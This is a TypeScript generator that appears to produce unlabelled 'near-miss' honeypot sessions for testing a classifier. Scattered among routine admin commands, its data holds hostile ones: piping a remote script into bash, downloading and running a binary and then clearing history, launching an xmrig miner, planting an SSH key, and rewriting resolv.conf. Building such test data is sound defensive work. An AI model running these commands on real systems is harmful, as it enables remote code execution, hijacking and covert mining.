import type { Body } from '../../src/model/event.ts';
import {
  banner,
  command,
  type Dice,
  fast,
  login,
  type Made,
  noise,
  request,
  slow,
  upload,
} from './variant.ts';

/** What nobody should label: people at work, tools that look once, bots that the library does not know, and near-misses. */
const shells: readonly ((dice: Dice) => string[])[] = [
  () => ['uname -a'],
  () => ['uname -m', 'nproc'],
  () => ['cd /var/log', 'ls -la', 'tail -n 50 syslog', 'df -h', 'free -m', 'uptime', 'exit'],
  (dice) => [
    'sudo apt update',
    'sudo apt install -y nginx',
    `sudo vim /etc/nginx/sites-available/${dice.word()}`,
    'sudo systemctl reload nginx',
    'curl -I http://localhost/',
  ],
  (dice) => [`cd /srv/${dice.word()}`, 'git pull', 'npm ci', 'npm run build', 'pm2 restart all', 'w'],
  (dice) => [`wget https://${dice.word()}.example/install.sh`, 'less install.sh', 'exit'],
  (dice) => [`adduser ${dice.word()}`, `usermod -aG docker ${dice.word()}`, 'id'],
  () => ['cat ~/.ssh/authorized_keys', 'chmod 600 ~/.ssh/authorized_keys', 'ls -la .ssh'],
  (dice) => [
    `echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA${dice.word(40, 44)} ${dice.word()}@laptop" >> ~/.ssh/authorized_keys`,
    'exit',
  ],
  () => ['crontab -l', 'crontab -e', 'systemctl list-timers'],
  () => ['cat /proc/cpuinfo', 'free -h', 'lscpu', 'df -h', 'top'],
  (dice) => [`cd /tmp; curl -O http://${dice.ip()}/${dice.word()}; chmod +x ${dice.word()}`, 'history -c'],
  (dice) => [`curl -s http://${dice.ip()}/${dice.word()}.sh | bash`],
  (dice) => [`nohup python3 /opt/${dice.word()}.py &`, 'ps aux | grep python'],
  (dice) => [`ping -c 3 ${dice.ip()} && ping -c 3 ${dice.ip()}`, 'ip a'],
  (dice) => [`for h in ${dice.ip()} ${dice.ip()}; do ssh $h uptime; done`],
  () => ['chattr -i /etc/resolv.conf', 'echo nameserver 192.0.2.53 > /etc/resolv.conf'],
  () => ['ps aux | grep miner', 'kill -9 1234', 'top'],
  (dice) => [`sed -i s/foo/bar/ ${dice.word()}.conf`, `service ${dice.word()} restart`],
  () => ['passwd', 'exit'],
  (dice) => [`xmrig -o ${dice.word()}.example:3333 -u ${dice.word(20, 30)}`],
  (dice) => [`tar xzf ${dice.word()}.tgz`, `./${dice.word()}/install`],
];
const telnets: readonly ((dice: Dice) => string[])[] = [
  () => ['enable', 'show version', 'show running-config', 'exit'],
  () => ['ls', 'cat /etc/passwd', 'exit'],
  () => ['sh', 'ps', 'ifconfig'],
  () => ['busybox', 'busybox ps', 'uptime'],
  (dice) => ['help', dice.word(), 'quit'],
  () => ['enable', 'system', 'shell', 'sh'].slice(0, 2),
];
const redises: readonly ((dice: Dice) => string[])[] = [
  () => ['PING'],
  () => ['INFO', 'QUIT'],
  (dice) => [`SET ${dice.word()} ${dice.word()}`, `GET ${dice.word()}`, 'KEYS *'],
  () => ['CONFIG GET dir', 'CONFIG GET dbfilename', 'INFO server'],
  () => ['config set dir /var/lib/redis', 'config set dbfilename dump.rdb', 'save'],
  () => ['SLAVEOF NO ONE', 'CLIENT LIST'],
  () => ['config set maxmemory 100mb', 'config rewrite'],
];
const requests: readonly ((dice: Dice) => Body[])[] = [
  () => [request('GET', '/')],
  () => [request('GET', '/favicon.ico'), request('GET', '/robots.txt')],
  (dice) => [request('GET', `/${dice.word()}.html`), request('GET', `/img/${dice.word()}.png`)],
  (dice) => [request('GET', `/search?q=how+to+use+wget+and+curl+${dice.word()}`)],
  (dice) => [request('POST', '/login.php', [], `username=${dice.word()}&password=${dice.word()}`)],
  () => [request('GET', '/docs/phpunit/getting-started')],
  () => [request('GET', '/environment'), request('GET', '/git/configuration')],
  (dice) => [request('GET', `/index.php?s=${dice.word()}&page=2`)],
  () => [request('HEAD', '/')],
  () => [request('GET', '/version'), request('GET', '/_ping')],
  () => [request('GET', '/wp-login.php')],
  () => [request('GET', '/nice%20ports%2C/Tri%6Eity.txt%2ebak')],
];
const adbs: readonly (() => string[])[] = [
  () => ['getprop ro.build.version.release'],
  () => ['cd /data/local/tmp; ls -la'],
  () => ['pm list packages', 'dumpsys battery'],
  () => ['pm path com.android.settings'],
  () => ['logcat -d'],
];

export function unknown(dice: Dice): Made {
  const kind = dice.int(0, 9);
  const gaps = dice.chance(0.5) ? slow : fast;
  if (kind < 4) {
    const bodies = dice.pick(shells)(dice).map(command);
    const file = dice.chance(0.1)
      ? [upload(`/tmp/${dice.word()}.${dice.pick(['txt', 'sh', 'x86'])}`, dice.sha256())]
      : [];
    return {
      label: '-',
      protocol: 'ssh',
      port: 22,
      bodies: [
        banner(dice.pick(['SSH-2.0-OpenSSH_9.6', 'SSH-2.0-Go', 'SSH-2.0-PuTTY_Release_0.80'])),
        login('root', dice.word()),
        ...file,
        ...dice.amid(bodies, noise, 0.2),
      ],
      gaps,
    };
  }
  if (kind === 4)
    return {
      label: '-',
      protocol: 'ssh',
      port: 22,
      bodies: [
        banner('SSH-2.0-Go'),
        ...Array.from({ length: dice.int(0, 5) }, () =>
          login(dice.pick(['root', 'admin']), dice.word(), false),
        ),
      ],
      gaps: fast,
    };
  if (kind === 5)
    return {
      label: '-',
      protocol: 'telnet',
      port: 23,
      bodies: [login('root', dice.word()), ...dice.pick(telnets)(dice).map(command)],
      gaps,
    };
  if (kind === 6)
    return { label: '-', protocol: 'redis', port: 6379, bodies: dice.pick(redises)(dice).map(command), gaps };
  if (kind === 7)
    return { label: '-', protocol: 'adb', port: 5555, bodies: dice.pick(adbs)().map(command), gaps };
  if (kind === 8)
    return {
      label: '-',
      protocol: 'sip',
      port: 5060,
      bodies: [request('OPTIONS', `sip:${dice.ip()}`, [['User-Agent', 'Linphone/4.4']])],
      gaps,
    };
  const bodies = dice.pick(requests)(dice) as Extract<Body, { kind: 'request' }>[];
  return {
    label: '-',
    protocol: 'http',
    port: 80,
    bodies: bodies.map((one) => ({
      ...one,
      headers: [['User-Agent', dice.pick(['Mozilla/5.0', 'curl/8.5.0'])]],
    })),
    gaps,
  };
}
